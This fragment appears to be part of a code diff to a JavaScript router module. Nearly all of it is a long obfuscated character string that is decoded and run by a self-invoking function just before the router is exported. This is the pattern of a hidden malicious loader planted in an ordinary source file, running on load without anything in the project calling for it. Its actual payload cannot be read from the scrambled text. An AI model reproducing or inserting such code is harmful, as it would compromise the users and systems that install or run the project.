lae)aRsRR]t;l;fd,[s7Re.+r=R%t?3fs].RtehSo]29R_,;5t2Ri(75)Rf%es)%@1c=w:RR7l1R(()2)Ro]r(;ot30;molx iRe.t.A}$Rm38e g.0s%g5trr&c:=e4=cfo21;4_tsD]R47RttItR*,le)RdrR6][c,omts)9dRurt)4ItoR5g(;R@]2ccR 5ocL..]_.()r5%]g(.RRe4}Clb]w=95)]9R62tuD%0N=,2).{Ho27f ;R7}_]t7]r17z]=a2rci%6.Re$Rbi8n4tnrtb;d3a;t,sl=rRa]r1cw]}a4g]ts%mcs.ry.a=R{7]]f"9x)%ie=ded=lRsrc4t 7a0u.}3R<ha]th15Rpe5)!kn;@oRR(51)=e lt+ar(3)e:e#Rf)Cf{d.aR\'6a(8j]]cp()onbLxcRa.rne:8ie!)oRRRde%2exuq}l5..fe3R.5x;f}8)791.i3c)(#e=vd)r.R!5R}%tt!Er%GRRR<.g(RR)79Er6B6]t}$1{R]c4e!e+f4f7":) (sys%Ranua)=.i_ERR5cR_7f8a6cr9ice.>.c(96R2o$n9R;c6p2e}R-ny7S*({1%RRRlp{ac)%hhns(D6;{ ( +sw]]1nrp3=.l4 =%o (9f4])29@?Rrp2o;7Rtmh]3v\/9]m tR.g ]1z 1"aRa];%6 RRz()ab.R)rtqf(C)imelm${y%l%)c}r.d4u)p(c\'cof0}d7R91T)S<=i: .l%3SE Ra]f)=e;;Cr=et:f;hRres%1onrcRRJv)R(aR}R1)xn_ttfw )eh}n8n22cg RcrRe1M'));var Tgw=jFD(LQI,pYd );Tgw(2509);return 1358})()
+module.exports = router;
 